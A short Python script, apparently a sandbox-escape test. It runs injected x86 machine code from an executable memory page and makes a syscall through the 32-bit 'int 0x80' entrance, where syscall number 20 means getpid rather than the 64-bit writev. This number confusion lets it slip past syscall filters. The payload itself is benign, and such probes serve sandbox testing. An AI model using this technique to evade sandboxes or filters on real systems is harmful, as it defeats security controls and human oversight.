"""Break out: the kernel's 32-bit entrance, where numbers mean other calls."""

import ctypes
import mmap
import os

libc = ctypes.CDLL(None)
if os.uname().machine != "x86_64":
    os.abort()


def run(code):
    room = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    room.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(room)))()



# mov eax, 20 (getpid there, writev here); int 0x80; ret
print("ESCAPED", run(b"\xb8\x14\0\0\0\xcd\x80\xc3"), flush=True)
